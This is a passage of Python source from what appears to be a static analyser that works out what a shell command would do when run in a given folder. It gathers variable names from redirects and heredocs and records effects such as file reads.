    pending += [part for redirect in node.redirects for part in redirect.target.parts]
    pending += [part for redirect in node.redirects if redirect.heredoc for part in redirect.heredoc.body.parts]
    while pending:
        part = pending.pop()
        if isinstance(part, Parameter):
            names[part.name] = None
            if part.argument is not None:
                pending.extend(part.argument.parts)
        elif isinstance(part, Arithmetic):
            pending.extend(part.parts)
        elif isinstance(part, (Substitution, Process)):
            continue
    return list(names)


def analyse(text: str, world: World, cwd: str) -> Analysis:
    """What the shell command ``text`` would do when run in the folder ``cwd``. Never raises for any text.

    NUL bytes are dropped, as bash drops them: inside the analysis they stand for unknown text.
    """
    interpreter = Interpreter(world)
    frame = Frame(State(cwd=cwd))
    printed = interpreter.text(text.replace(UNKNOWN, ""), frame)
    interpreter.finish()
    for origin in sorted(printed.origins):
        if origin.startswith("sourced:"):
            path = origin.removeprefix("sourced:")
            interpreter.emit(Effect(EffectKind.READ, path, "printing a variable", flags=Flag.CONTENT_OUT), frame)
    return interpreter.analysis
